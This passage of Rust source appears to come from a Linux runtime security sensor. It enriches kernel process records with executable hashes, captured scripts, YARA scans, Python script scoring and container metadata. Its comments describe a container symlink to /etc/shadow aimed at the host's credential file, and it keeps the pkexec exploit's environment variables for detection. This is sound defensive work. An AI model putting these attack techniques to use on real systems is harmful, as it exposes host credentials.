//! From kernel records to enriched events: executable path and hash, captured script, cgroup
//! path, container metadata, environment allow-list, wall-clock times.
//!
//! Everything read from `/proc` is read through [`EnrichConfig::proc_root`] so tests can point it
//! elsewhere; every read is bounded.
//!
//! A process's own files (its executable after it exited, its script) are opened by path inside
//! the root the process sees, with `openat2(2)` and `RESOLVE_IN_ROOT` ([`open_in_root`]): a
//! symbolic link in a container to `/etc/shadow` leads to the container's file, never the
//! host's, and a container's files are never looked for on the host at all.

use crate::metadata::{self, RuntimeState};
use crate::raw::{
    RawExec, RawExit, RawFd, RawFork, RawLibrary, EXEC_ARGV_TRUNCATED, EXEC_DELETED, EXEC_MEMFD,
};
use rustc_hash::FxHashMap;
use rustix::fd::OwnedFd;
use rustix::fs::{Mode, OFlags, ResolveFlags};
use sha2::{Digest, Sha256};
use shrike_core::container::ContainerIdentity;
use shrike_core::event::{
    CapturedFile, Cgroup, ContainerInfo, ContentScanner, ExecEvent, Executable, ExitEvent, FdKind,
    ForkEvent, Layer, LibraryEvent, Protocol, RecordedScore, SocketFamily, SocketInfo, Stdio,
    YaraMatch, PYTHON_SCORED_BYTES, PYTHON_SCORED_MAX,
};
use shrike_core::interp::{is_python_interpreter, parse_invocation, PythonInvocation};
use shrike_core::ScriptClassifier;
use std::cell::OnceCell;
use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::fs::File;
use std::io::Read;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// Environment variables worth keeping in findings (never secrets).
pub const ENV_ALLOW_LIST: &[&str] = &[
    "PATH",
    "HOME",
    "USER",
    "HOSTNAME",
    "PWD",
    "SHELL",
    "TERM",
    "LANG",
    "container",
    "KUBERNETES_SERVICE_HOST",
    "KUBERNETES_SERVICE_PORT",
    // What the pkexec exploit (CVE-2021-4034) sets; never secrets.
    "GCONV_PATH",
    "CHARSET",
];

/// Enrichment settings.
#[derive(Debug, Clone)]
pub struct EnrichConfig {
    /// Where procfs is mounted.
    pub proc_root: PathBuf,
    /// The host's root (state roots of container runtimes are found under it).
    pub host_root: PathBuf,
    /// How much of a script goes into the event.
    pub script_capture_bytes: usize,
    /// Files larger than this are not hashed.
    pub max_hash_bytes: u64,
    /// Entries in the hash cache before it is cleared.
    pub hash_cache_entries: usize,
    /// What scans each executable's contents (the YARA rules), once per file identity, as
    /// it is hashed.
    pub yara: Option<Arc<dyn ContentScanner>>,
    /// The Python model: a Python interpreter's script longer than `script_capture_bytes` is
    /// scored here, in windows of up to [`PYTHON_SCORED_BYTES`] over its first
    /// [`PYTHON_SCORED_MAX`] bytes and its end, and the verdict recorded in the event
    /// (`script.python`), so that code past the capture is scored too.
    pub python: Option<PythonScorer>,
    /// The time the sensor may spend scoring long Python scripts in any one second. Past it a
    /// script goes without the sensor's verdict (the detector scores its capture, and says
    /// so), and is counted in [`EnrichStats::python_over_budget`]: a workload running many
    /// distinct long scripts must not stall the sensor into losing events.
    pub python_budget: std::time::Duration,
}

/// The script classifier the sensor scores long Python scripts with.
#[derive(Clone)]
pub struct PythonScorer(pub Arc<dyn ScriptClassifier>);

impl std::fmt::Debug for PythonScorer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_tuple("PythonScorer")
            .field(&self.0.model_name())
            .finish()
    }
}

impl Default for EnrichConfig {
    fn default() -> Self {
        Self {
            proc_root: "/proc".into(),
            host_root: "/".into(),
            script_capture_bytes: 64 * 1024,
            max_hash_bytes: 256 << 20,
            hash_cache_entries: 1 << 16,
            yara: None,
            python: None,
            python_budget: std::time::Duration::from_millis(250),
        }
    }
}

/// What enrichment did, for telemetry: every failure is counted.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct EnrichStats {
    /// Executables hashed (cache misses).
    pub hashed: u64,
    /// Hash cache hits.
    pub hash_cache_hits: u64,
    /// Executables that could not be hashed.
    pub hash_failures: u64,
    /// Of those hashed, how many were read after the process had exited.
    pub hashed_after_exit: u64,
    /// Scripts captured.
    pub scripts_captured: u64,
    /// Scripts that could not be read.
    pub script_failures: u64,
    /// Executables (once per file identity) and captured scripts scanned with YARA rules.
    pub yara_scanned: u64,
    /// Of those, how many matched a rule.
    pub yara_matched: u64,
    /// Executables and scripts not scanned: too large, timed out, or unreadable.
    pub yara_failures: u64,
    /// Python scripts longer than the capture, scored by the sensor (once per script hash).
    pub python_scored: u64,
    /// Python scripts longer than the capture not scored by the sensor: its scoring budget for
    /// the second was spent.
    pub python_over_budget: u64,
}

#[derive(Clone, Copy, PartialEq, Eq, Hash)]
struct FileKey {
    dev: u64,
    ino: u64,
    size: u64,
    mtime_ns: u64,
}

/// What reading an executable told: its hash and, when YARA rules are loaded, their verdict.
#[derive(Debug, Clone)]
struct Identified {
    sha256: String,
    yara: Vec<YaraMatch>,
    yara_error: Option<String>,
}

/// Turns kernel records into events.
pub struct Enricher {
    config: EnrichConfig,
    /// Wall clock minus boot clock, in ns.
    clock_offset: i128,
    hashes: FxHashMap<FileKey, Identified>,
    /// YARA verdicts on scripts, by the script's SHA-256.
    script_verdicts: FxHashMap<String, Vec<YaraMatch>>,
    /// Python verdicts on scripts longer than the capture, by the script's SHA-256.
    python_verdicts: FxHashMap<String, RecordedScore>,
    /// The second the Python scoring budget is counted for, and what was spent in it.
    python_spent: (std::time::Instant, std::time::Duration),
    cgroups: FxHashMap<u64, String>,
    containers: FxHashMap<String, Arc<RuntimeState>>,
    stats: EnrichStats,
}

/// The shells whose script file the sensor captures when one is run by name (`sh FILE`).
const SCRIPT_SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "ksh", "mksh"];

/// The index in `argv` of the script file a shell was asked to run (`sh -e FILE ARGS`), when it
/// was: not with `-c` (a command string), `-s` or `-i` (commands from stdin or a terminal), or no
/// operand at all. `exe` is the executed file; busybox counts when `argv[0]` (or, run as
/// `busybox sh`, `argv[1]`) names a shell.
pub fn shell_script_arg(exe: &str, argv: &[String]) -> Option<usize> {
    let base = |s: &str| {
        s.rsplit('/')
            .next()
            .unwrap_or("")
            .trim_start_matches('-')
            .to_owned()
    };
    let exe = base(exe);
    let mut i = 1;
    if exe == "busybox" {
        match argv.first().map(|a| base(a)) {
            Some(a) if a == "busybox" => {
                if !argv
                    .get(1)
                    .is_some_and(|a| SCRIPT_SHELLS.contains(&a.as_str()))
                {
                    return None;
                }
                i = 2;
            }
            Some(a) if SCRIPT_SHELLS.contains(&a.as_str()) => {}
            _ => return None,
        }
    } else if !SCRIPT_SHELLS.contains(&exe.as_str()) {
        return None;
    }
    while let Some(arg) = argv.get(i) {
        match arg.as_str() {
            "--" => return argv.get(i + 1).map(|_| i + 1),
            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file" => i += 2,
            a if a.starts_with("--") => i += 1,
            a if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 => {
                if a.starts_with('-') && a[1..].chars().any(|c| matches!(c, 'c' | 's' | 'i')) {
                    return None;
                }
                i += 1;
            }
            "" | "-" => return None,
            _ => return Some(i),
        }
    }
    None
}

/// `enum shrike_layer` as the event model's layer.
fn layer_of(raw: u32) -> Layer {
    match raw {
        1 => Layer::Lower,
        2 => Layer::Upper,
        3 => Layer::CopiedUp,
        4 => Layer::Host,
        _ => Layer::Unknown,
    }
}

/// The first mapping of inode `ino` in process `pid`'s memory map: its `map_files` link (which
/// opens the very file the process mapped) and its path as the map shows it (without a
/// ` (deleted)` suffix). `None` when the process is gone or the file is not mapped (yet).
fn mapped_file(proc_root: &Path, pid: u32, ino: u64) -> Option<(PathBuf, Vec<u8>)> {
    let dir = proc_root.join(pid.to_string());
    let maps = read_bounded(&dir.join("maps"), 4 << 20).ok()?;
    maps.split(|&b| b == b'\n').find_map(|line| {
        // start-end perms offset dev inode   path
        let mut fields = line.splitn(6, |&b| b == b' ');
        let range = fields.next()?;
        let _perms = fields.next()?;
        let _offset = fields.next()?;
        let _dev = fields.next()?;
        let inode = fields.next()?;
        if std::str::from_utf8(inode).ok()?.parse::<u64>().ok()? != ino {
            return None;
        }
        let path = fields.next()?.trim_ascii_start();
        let path = path.strip_suffix(b" (deleted)").unwrap_or(path);
        let link = dir.join("map_files").join(OsStr::from_bytes(range));
        Some((link, path.to_vec()))
    })
}

/// Kernel-internal `dev_t` (major << 20 | minor) to the encoding `stat(2)` reports.
pub fn user_dev(kdev: u64) -> u64 {
    let major = kdev >> 20;
    let minor = kdev & 0xf_ffff;
    ((major & 0xffff_f000) << 32)
        | ((major & 0xfff) << 8)
        | ((minor & 0xffff_ff00) << 12)
        | (minor & 0xff)
}

fn boot_clock_offset() -> i128 {
    use nix::time::{clock_gettime, ClockId};
    let ns = |c| {
        clock_gettime(c)
            .map(|t| i128::from(t.tv_sec()) * 1_000_000_000 + i128::from(t.tv_nsec()))
            .unwrap_or(0)
    };
    ns(ClockId::CLOCK_REALTIME) - ns(ClockId::CLOCK_BOOTTIME)
}

/// Reads at most `limit` bytes of a file.
pub(crate) fn read_bounded(path: &Path, limit: u64) -> std::io::Result<Vec<u8>> {
    let mut buf = Vec::new();
    File::open(path)?.take(limit).read_to_end(&mut buf)?;
    Ok(buf)
}

/// Opens a file that must be a regular file, without ever blocking: paths come from processes
/// we watch, and a FIFO (`python3 <(…)`) or a device there must not stall the sensor.
pub fn open_regular(path: &Path) -> std::io::Result<File> {
    use std::os::unix::fs::OpenOptionsExt;
    let file = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(nix::fcntl::OFlag::O_NONBLOCK.bits() | nix::fcntl::OFlag::O_NOCTTY.bits())
        .open(path)?;
    if !file.metadata()?.file_type().is_file() {
        return Err(std::io::Error::other(format!(
            "{} is not a regular file",
            path.display()
        )));
    }
    Ok(file)
}

/// How much of a process's environment is read (`/proc/PID/environ`).
const ENVIRON_BYTES: usize = 256 * 1024;
/// Characters kept of one environment variable's value.
const ENV_VALUE_CHARS: usize = 1024;

fn open_dir(path: &Path) -> std::io::Result<OwnedFd> {
    Ok(rustix::fs::open(
        path,
        OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )?)
}

/// Opens `path` inside the directory `root` as a process whose root `root` is would: with
/// `openat2(2)` and `RESOLVE_IN_ROOT`, `..` stops at `root` and a symbolic link to an absolute
/// path (`/etc/shadow`) resolves under `root`, so a link in a container's file system can never
/// lead to the host's file. Magic links (`/proc/self/root`, `/proc/PID/fd/N`) are refused:
/// through the procfs a container mounts, they lead to the sensor's own files. A symbolic link
/// loop ends in `ELOOP` after the kernel's 40 links. Only regular files are opened, and never in
/// a way that blocks (see [`open_regular`]).
///
/// Needs Linux 5.6 (`openat2`): on an older kernel every such open fails (`ENOSYS`) rather than
/// falling back to a lookup that could leave the root.
pub fn open_in_root(root: &Path, path: &Path) -> std::io::Result<File> {
    let dir = open_dir(root)
        .map_err(|e| std::io::Error::new(e.kind(), format!("{}: {e}", root.display())))?;
    open_in_root_fd(&dir, root, path)
}

fn open_in_root_fd(dir: &OwnedFd, root: &Path, path: &Path) -> std::io::Result<File> {
    let flags = OFlags::RDONLY | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC;
    let resolve = ResolveFlags::IN_ROOT | ResolveFlags::NO_MAGICLINKS;
    let context = |e: std::io::Error| {
        std::io::Error::new(
            e.kind(),
            format!("{} in {}: {e}", path.display(), root.display()),
        )
    };
    let mut retries = 0;
    let fd = loop {
        match rustix::fs::openat2(dir, path, flags, Mode::empty(), resolve) {
            // The kernel asks for a retry when a rename or a mount raced the lookup.
            Err(rustix::io::Errno::AGAIN) if retries < 3 => retries += 1,
            Err(e) => return Err(context(e.into())),
            Ok(fd) => break fd,
        }
    };
    let file = File::from(fd);
    if !file.metadata()?.file_type().is_file() {
        return Err(context(std::io::Error::other("not a regular file")));
    }
    Ok(file)
}

/// Whether two open directories are the same one.
fn same_dir(a: &OwnedFd, b: &OwnedFd) -> bool {
    match (rustix::fs::fstat(a), rustix::fs::fstat(b)) {
        (Ok(a), Ok(b)) => a.st_dev == b.st_dev && a.st_ino == b.st_ino,
        _ => false,
    }
}

/// A requested path made absolute: as it is, or under the process's working directory.
fn resolve(path: &[u8], cwd: Option<&Path>) -> Option<PathBuf> {
    let path = Path::new(OsStr::from_bytes(path));
    if path.is_absolute() {
        return Some(path.to_path_buf());
    }
    cwd.map(|cwd| cwd.join(path.strip_prefix(".").unwrap_or(path)))
}

/// The roots a process's files are opened in ([`open_in_root`]), innermost first, worked out
/// (and opened) only when a file is needed, once per exec.
///
/// * A container's process: its own `/proc/PID/root`, then its container's init's, each only
///   while that pid is still in the same container (pids are reused: this host has 32768), and
///   never the host's root, whatever fails.
/// * Any other process: its own root while it runs the executable the kernel reported and that
///   root is not the host's (a `chroot`, a mount namespace of its own); otherwise the host's.
struct Roots<'a> {
    enricher: &'a EnrichConfig,
    pid: u32,
    alive: bool,
    container: Option<(&'a str, Option<u32>)>,
    opened: OnceCell<Vec<(PathBuf, OwnedFd)>>,
}

impl Roots<'_> {
    fn get(&self) -> &[(PathBuf, OwnedFd)] {
        self.opened.get_or_init(|| {
            let config = self.enricher;
            let proc_root = |pid: u32| config.proc_root.join(pid.to_string()).join("root");
            let open = |path: PathBuf| open_dir(&path).ok().map(|fd| (path, fd));
            let mut roots = Vec::new();
            match self.container {
                Some((id, init)) => {
                    for pid in std::iter::once(self.pid).chain(init) {
                        // Opened first, checked after: a pid reused in between fails the check.
                        if let Some(root) = open(proc_root(pid)) {
                            if in_container(&config.proc_root, pid, id) {
                                roots.push(root);
                            }
                        }
                    }
                }
                None => {
                    let host = open(config.host_root.clone());
                    let own = self.alive.then(|| open(proc_root(self.pid))).flatten();
                    match (own, host) {
                        (Some(own), Some(host)) if same_dir(&own.1, &host.1) => roots.push(host),
                        (Some(own), _) => roots.push(own),
                        (None, host) => roots.extend(host),
                    }
                }
            }
            roots
        })
    }
}

/// Whether process `pid` is (still) in the container `id`, by its cgroup v2 path.
fn in_container(proc_root: &Path, pid: u32, id: &str) -> bool {
    let path = proc_root.join(pid.to_string()).join("cgroup");
    let Ok(text) = read_bounded(&path, 64 * 1024) else {
        return false;
    };
    String::from_utf8_lossy(&text)
        .lines()
        .filter_map(|l| l.strip_prefix("0::"))
        .filter_map(ContainerIdentity::from_cgroup_path)
        .any(|c| c.id == id)
}

/// What [`read_script`] read of a script.
struct ScriptRead {
    /// The SHA-256, when the file is no larger than the hashing limit.
    sha256: Option<String>,
    size: u64,
    /// The first bytes asked for.
    head: Vec<u8>,
    /// The last bytes asked for (all of a shorter file).
    tail: Vec<u8>,
}

/// A script's first `head` bytes, its last `tail` bytes, its size and, when it is no larger
/// than `hash_limit`, its SHA-256: one pass over one open file, so that the tail is the one of
/// the bytes hashed. A file too large to hash has its tail read at its end afterwards (empty if
/// that read fails).
fn read_script(
    file: &mut File,
    hash_limit: u64,
    head: usize,
    tail: usize,
) -> std::io::Result<ScriptRead> {
    let mut hasher = Sha256::new();
    let mut buf = vec![0u8; 64 * 1024];
    let mut first = Vec::with_capacity(head.min(64 * 1024));
    // The last `tail` bytes read, in a ring: byte k of the file at `ring[k % tail]`.
    let mut ring = vec![0u8; tail];
    let mut total = 0u64;
    let mut reader = (&mut *file).take(hash_limit.saturating_add(1));
    loop {
        let n = reader.read(&mut buf)?;
        if n == 0 {
            break;
        }
        let room = head.saturating_sub(first.len());
        first.extend_from_slice(&buf[..n.min(room)]);
        if tail > 0 {
            let keep = n.min(tail);
            let from = total + (n - keep) as u64;
            let at = usize::try_from(from % tail as u64).unwrap_or(0);
            let (bytes, split) = (&buf[n - keep..n], (tail - at).min(keep));
            ring[at..at + split].copy_from_slice(&bytes[..split]);
            ring[..keep - split].copy_from_slice(&bytes[split..]);
        }
        total += n as u64;
        if total > hash_limit {
            // Too large to hash: the head is still the script's, and the size is the file's.
            let size = reader.get_ref().metadata()?.len().max(total);
            let tail = read_tail(file, size, tail).unwrap_or_default();
            return Ok(ScriptRead {
                sha256: None,
                size,
                head: first,
                tail,
            });
        }
        hasher.update(&buf[..n]);
    }
    // The ring in file order: all of it from the next byte to be written, once it has come
    // round; its start until then.
    let last = match usize::try_from(total) {
        _ if tail == 0 => Vec::new(),
        Ok(all) if all <= tail => ring[..all].to_vec(),
        _ => {
            let at = usize::try_from(total % tail as u64).unwrap_or(0);
            [&ring[at..], &ring[..at]].concat()
        }
    };
    Ok(ScriptRead {
        sha256: Some(hex::encode(hasher.finalize())),
        size: total,
        head: first,
        tail: last,
    })
}

/// The last `n` bytes of a file of `size` bytes, read at their offset (fewer if the file has
/// shrunk below `size` since).
fn read_tail(file: &File, size: u64, n: usize) -> std::io::Result<Vec<u8>> {
    use std::os::unix::fs::FileExt;
    let start = size.saturating_sub(n as u64);
    let mut out = vec![0u8; usize::try_from(size - start).unwrap_or(n)];
    let mut got = 0;
    while got < out.len() {
        match file.read_at(&mut out[got..], start + got as u64) {
            Ok(0) => break,
            Ok(k) => got += k,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
    out.truncate(got);
    Ok(out)
}

/// Inserts into a cache that starts over when it holds `cap` entries.
fn insert_bounded<K: std::hash::Hash + Eq, V>(
    map: &mut FxHashMap<K, V>,
    cap: usize,
    key: K,
    value: V,
) {
    if map.len() >= cap {
        map.clear();
    }
    map.insert(key, value);
}

/// SHA-256 of a file, read to its end but never past `limit` bytes.
fn sha256_file(file: &mut File, limit: u64) -> std::io::Result<(String, u64)> {
    let mut hasher = Sha256::new();
    let mut buf = vec![0u8; 64 * 1024];
    let mut total = 0u64;
    let mut reader = file.take(limit.saturating_add(1));
    loop {
        let n = reader.read(&mut buf)?;
        if n == 0 {
            break;
        }
        total += n as u64;
        if total > limit {
            return Err(std::io::Error::other(format!(
                "larger than the {limit}-byte hashing limit"
            )));
        }
        hasher.update(&buf[..n]);
    }
    Ok((hex::encode(hasher.finalize()), total))
}

impl Enricher {
    /// An enricher; the boot-to-wall clock offset is taken now.
    pub fn new(config: EnrichConfig) -> Self {
        Self {
            config,
            clock_offset: boot_clock_offset(),
            hashes: FxHashMap::default(),
            script_verdicts: FxHashMap::default(),
            python_verdicts: FxHashMap::default(),
            python_spent: (std::time::Instant::now(), std::time::Duration::ZERO),
            cgroups: FxHashMap::default(),
            containers: FxHashMap::default(),
            stats: EnrichStats::default(),
        }
    }

    /// Counters so far.
    pub fn stats(&self) -> EnrichStats {
        self.stats
    }

    /// Boot-clock ns to wall-clock ns since the Unix epoch.
    pub fn wall(&self, boot_ns: u64) -> u64 {
        (i128::from(boot_ns) + self.clock_offset).clamp(0, i128::from(u64::MAX)) as u64
    }

    fn proc(&self, pid: u32, leaf: &str) -> PathBuf {
        self.config.proc_root.join(pid.to_string()).join(leaf)
    }

    /// A fork record as an event.
    pub fn fork(&self, raw: &RawFork) -> ForkEvent {
        ForkEvent {
            time_ns: self.wall(raw.time_boot_ns),
            pid: raw.pid,
            ppid: raw.ppid,
            start_time_ns: raw.start_boot_ns,
        }
    }

    /// An exit record as an event.
    pub fn exit(&self, raw: &RawExit) -> ExitEvent {
        ExitEvent {
            time_ns: self.wall(raw.time_boot_ns),
            pid: raw.pid,
            exit_code: raw.exit_code,
        }
    }

    /// An exec record as an enriched event.
    pub fn exec(&mut self, raw: &RawExec) -> ExecEvent {
        let pid = raw.pid;
        let cwd_path = std::fs::read_link(self.proc(pid, "cwd")).ok();
        let cwd = cwd_path.as_ref().map(|p| p.to_string_lossy().into_owned());
        let cgroup_path = self.cgroup_path(raw.cgroup_id, pid);
        let runtime = cgroup_path.as_deref().and_then(|p| self.container(p));
        let container: Option<Arc<ContainerInfo>> =
            runtime.as_ref().map(|r| Arc::new(r.info.clone()));

        let mut exe = Executable {
            dev: user_dev(raw.exe_dev),
            ino: raw.exe_ino,
            size: raw.exe_size,
            mtime_ns: raw.exe_mtime_ns,
            layer: layer_of(raw.layer),
            deleted: raw.flags & EXEC_DELETED != 0,
            ..Executable::default()
        };
        // /proc/PID/exe is only the executed file if the process has not exec'd again since.
        let proc_exe = self.proc(pid, "exe");
        let exe_meta = std::fs::metadata(&proc_exe);
        let alive = exe_meta.is_ok_and(|m| m.ino() == raw.exe_ino);
        // Paths are kept as bytes until shown, so a name that is not UTF-8 still opens.
        let live_path: Option<Vec<u8>> = alive
            .then(|| std::fs::read_link(&proc_exe).ok())
            .flatten()
            .map(|p| {
                let p = p.as_os_str().as_encoded_bytes();
                p.strip_suffix(b" (deleted)").unwrap_or(p).to_vec()
            });
        if live_path
            .as_ref()
            .is_some_and(|p| p.starts_with(b"/memfd:"))
        {
            exe.memfd = true;
            exe.layer = Layer::Memfd;
        }
        let kernel = raw.exe_path.is_some().then_some(&raw.exe_path_bytes);
        let path_bytes: Vec<u8> = match (kernel, live_path) {
            (Some(kernel), _) if raw.exe_path_complete() && !exe.memfd => kernel.clone(),
            (_, Some(live)) => live,
            // The kernel saw the path below the file's mount; the requested path may be whole.
            (Some(kernel), None) if raw.filename_bytes.ends_with(kernel) => {
                raw.filename_bytes.clone()
            }
            (Some(kernel), None) => kernel.clone(),
            (None, None) => raw.filename_bytes.clone(),
        };
        exe.path = String::from_utf8_lossy(&path_bytes).into_owned();
        if raw.flags & EXEC_MEMFD != 0 || exe.path.starts_with("/memfd:") {
            exe.memfd = true;
            exe.layer = Layer::Memfd;
        }
        let config = self.config.clone();
        let roots = Roots {
            enricher: &config,
            pid,
            alive,
            container: runtime.as_deref().map(|r| (r.info.id.as_str(), r.init_pid)),
            opened: OnceCell::new(),
        };
        self.hash_exe(raw, &mut exe, &path_bytes, alive, &roots);

        let argv = raw.argv.clone();
        let script = self.capture_script(raw, &exe, cwd_path.as_deref(), &roots);
        let (env, env_truncated) = self.env(pid);
        ExecEvent {
            time_ns: self.wall(raw.time_boot_ns),
            pid,
            ppid: raw.ppid,
            start_time_ns: raw.start_boot_ns,
            uid: raw.uid,
            gid: raw.gid,
            comm: raw.comm.clone(),
            exe,
            argv,
            argv_truncated: raw.flags & EXEC_ARGV_TRUNCATED != 0,
            env,
            env_truncated,
            cwd,
            stdio: [stdio(&raw.fds[0]), stdio(&raw.fds[1]), stdio(&raw.fds[2])],
            cgroup: cgroup_path.map(|path| Cgroup {
                id: raw.cgroup_id,
                path,
            }),
            container,
            script,
        }
    }

    /// A library-load record as an enriched event: the file's whole path (from the kernel, or
    /// the process's memory map), its hash and YARA verdict (cached with the executables'),
    /// and the process's cgroup and container.
    pub fn library(&mut self, raw: &RawLibrary) -> LibraryEvent {
        let pid = raw.pid;
        let cgroup_path = self.cgroup_path(raw.cgroup_id, pid);
        let runtime = cgroup_path.as_deref().and_then(|p| self.container(p));
        let container: Option<Arc<ContainerInfo>> =
            runtime.as_ref().map(|r| Arc::new(r.info.clone()));
        let mut file = Executable {
            dev: user_dev(raw.dev),
            ino: raw.ino,
            size: raw.size,
            mtime_ns: raw.mtime_ns,
            layer: layer_of(raw.layer),
            deleted: raw.flags & EXEC_DELETED != 0,
            ..Executable::default()
        };
        // The mapping as the process's memory map shows it: the whole path, and a link to the
        // very file (`map_files`), which opens even once it is unlinked or if it is a memfd.
        let mapped = mapped_file(&self.config.proc_root, pid, raw.ino);
        let path_bytes: Vec<u8> = match &mapped {
            _ if raw.path_complete() && raw.flags & EXEC_MEMFD == 0 => raw.path_bytes.clone(),
            Some((_, path)) => path.clone(),
            None => raw.path_bytes.clone(),
        };
        file.path = String::from_utf8_lossy(&path_bytes).into_owned();
        if raw.flags & EXEC_MEMFD != 0 || file.path.starts_with("/memfd:") {
            file.memfd = true;
            file.layer = Layer::Memfd;
        }
        let key = FileKey {
            dev: raw.dev,
            ino: raw.ino,
            size: raw.size,
            mtime_ns: raw.mtime_ns,
        };
        let config = self.config.clone();
        let roots = Roots {
            enricher: &config,
            pid,
            alive: mapped.is_some(),
            container: runtime.as_deref().map(|r| (r.info.id.as_str(), r.init_pid)),
            opened: OnceCell::new(),
        };
        let direct = mapped.map(|(link, _)| link);
        let lookup_path = if file.memfd { &[][..] } else { &path_bytes[..] };
        self.identify(pid, key, &mut file, direct, lookup_path, &roots, "library");
        LibraryEvent {
            time_ns: self.wall(raw.time_boot_ns),
            pid,
            start_time_ns: raw.start_boot_ns,
            library: file,
            cgroup: cgroup_path.map(|path| Cgroup {
                id: raw.cgroup_id,
                path,
            }),
            container,
        }
    }

    fn hash_exe(
        &mut self,
        raw: &RawExec,
        exe: &mut Executable,
        path: &[u8],
        alive: bool,
        roots: &Roots,
    ) {
        let key = FileKey {
            dev: raw.exe_dev,
            ino: raw.exe_ino,
            size: raw.exe_size,
            mtime_ns: raw.exe_mtime_ns,
        };
        let direct = alive.then(|| self.proc(raw.pid, "exe"));
        self.identify(raw.pid, key, exe, direct, path, roots, "executable");
    }

    /// Hashes (and scans) the file `key` names, once per identity: through `direct` (a
    /// `/proc` link to the very file) when there is one, else by `path` in the process's roots,
    /// checking each candidate is the same inode. `what` names the file in errors.
    #[allow(
        clippy::too_many_arguments,
        reason = "one private helper of two callers"
    )]
    fn identify(
        &mut self,
        pid: u32,
        key: FileKey,
        exe: &mut Executable,
        direct: Option<PathBuf>,
        path: &[u8],
        roots: &Roots,
        what: &str,
    ) {
        if let Some(known) = self.hashes.get(&key) {
            self.stats.hash_cache_hits += 1;
            exe.sha256 = Some(known.sha256.clone());
            exe.yara = known.yara.clone();
            exe.yara_error = known.yara_error.clone();
            return;
        }
        // The live process's own executable first; then, for a process already gone, the same
        // path in the process's root (see [`Roots`]), if it is the very same inode.
        let mut last_error = format!("process exited before its {what} could be read");
        let mut hashed = None;
        let alive = direct.is_some();
        if let Some(proc_exe) = direct {
            match open_regular(&proc_exe)
                .map_err(|e| format!("{}: {e}", proc_exe.display()))
                .and_then(|f| self.hash_verified_file(f, &proc_exe, exe))
            {
                Ok(hash) => hashed = Some(hash),
                Err(e) => last_error = e,
            }
        }
        let path = Path::new(OsStr::from_bytes(path));
        if hashed.is_none() && path.is_absolute() && !exe.memfd {
            for (root, dir) in roots.get() {
                match open_in_root_fd(dir, root, path)
                    .map_err(|e| e.to_string())
                    .and_then(|f| self.hash_verified_file(f, path, exe))
                {
                    Ok(hash) => {
                        if !alive {
                            self.stats.hashed_after_exit += 1;
                        }
                        hashed = Some(hash);
                        break;
                    }
                    Err(e) => last_error = e,
                }
            }
        }
        let Some(known) = hashed else {
            self.stats.hash_failures += 1;
            tracing::debug!(pid, path = %exe.path, error = %last_error, "{what} not hashed");
            exe.hash_error = Some(last_error);
            if self.config.yara.is_some() {
                self.stats.yara_failures += 1;
                exe.yara_error = Some(format!("the {what} could not be read"));
            }
            return;
        };
        self.stats.hashed += 1;
        if self.config.yara.is_some() {
            match (&known.yara_error, known.yara.is_empty()) {
                (Some(e), _) => {
                    self.stats.yara_failures += 1;
                    tracing::warn!(path = %exe.path, error = %e, "{what} not scanned with the YARA rules");
                }
                (None, matched) => {
                    self.stats.yara_scanned += 1;
                    self.stats.yara_matched += u64::from(!matched);
                }
            }
        }
        exe.sha256 = Some(known.sha256.clone());
        exe.yara = known.yara.clone();
        exe.yara_error = known.yara_error.clone();
        insert_bounded(&mut self.hashes, self.config.hash_cache_entries, key, known);
    }

    #[cfg(test)]
    fn hash_verified(&self, path: &Path, exe: &Executable) -> Result<String, String> {
        let file = open_regular(path).map_err(|e| format!("{}: {e}", path.display()))?;
        self.hash_verified_file(file, path, exe).map(|i| i.sha256)
    }

    /// Hashes the file, if it is the executed one, and scans it with the YARA rules.
    fn hash_verified_file(
        &self,
        mut file: File,
        path: &Path,
        exe: &Executable,
    ) -> Result<Identified, String> {
        let meta = file.metadata().map_err(|e| e.to_string())?;
        // On overlayfs, stat reports the real file's device (the layer's filesystem) while the
        // kernel saw the overlay's: there the inode number and size identify the file.
        let overlay = matches!(exe.layer, Layer::Lower | Layer::Upper | Layer::CopiedUp);
        let same_dev = overlay || exe.dev == 0 || meta.dev() == exe.dev;
        if meta.ino() != exe.ino || meta.len() != exe.size || !same_dev {
            return Err(format!("{} is no longer the executed file", path.display()));
        }
        let sha256 = sha256_file(&mut file, self.config.max_hash_bytes)
            .map(|(h, _)| h)
            .map_err(|e| format!("{}: {e}", path.display()))?;
        let (yara, yara_error) = match &self.config.yara {
            None => (Vec::new(), None),
            Some(scanner) => {
                use std::io::{Seek, SeekFrom};
                match file
                    .seek(SeekFrom::Start(0))
                    .map_err(|e| format!("reading for the YARA scan: {e}"))
                    .and_then(|_| scanner.scan(&mut file))
                {
                    Ok(found) => (found, None),
                    Err(e) => (Vec::new(), Some(e)),
                }
            }
        };
        Ok(Identified {
            sha256,
            yara,
            yara_error,
        })
    }

    fn capture_script(
        &mut self,
        raw: &RawExec,
        exe: &Executable,
        cwd: Option<&Path>,
        roots: &Roots,
    ) -> Option<Box<CapturedFile>> {
        // A `#!` script: the kernel was asked for one file and ran another (its interpreter).
        // Paths are opened by their bytes, so a name that is not UTF-8 opens too.
        let mut candidates: Vec<(PathBuf, bool)> = Vec::new();
        if let Some(requested) = raw.requested_path() {
            if !requested.is_empty()
                && String::from_utf8_lossy(requested) != exe.path
                && !requested.starts_with(b"/dev/fd/")
                && !requested.starts_with(b"/proc/")
            {
                if let Some(p) = resolve(requested, cwd) {
                    candidates.push((p, true));
                }
            }
        }
        let python_exe = is_python_interpreter(exe.path.rsplit('/').next().unwrap_or(""));
        if python_exe {
            let args = raw.argv.get(1..).unwrap_or_default();
            if let PythonInvocation::Script(arg) = parse_invocation(args, None) {
                let bytes = args
                    .iter()
                    .position(|a| *a == arg)
                    .and_then(|i| raw.argv_bytes.get(i + 1))
                    .map_or(arg.as_bytes(), Vec::as_slice);
                if let Some(p) = resolve(bytes, cwd) {
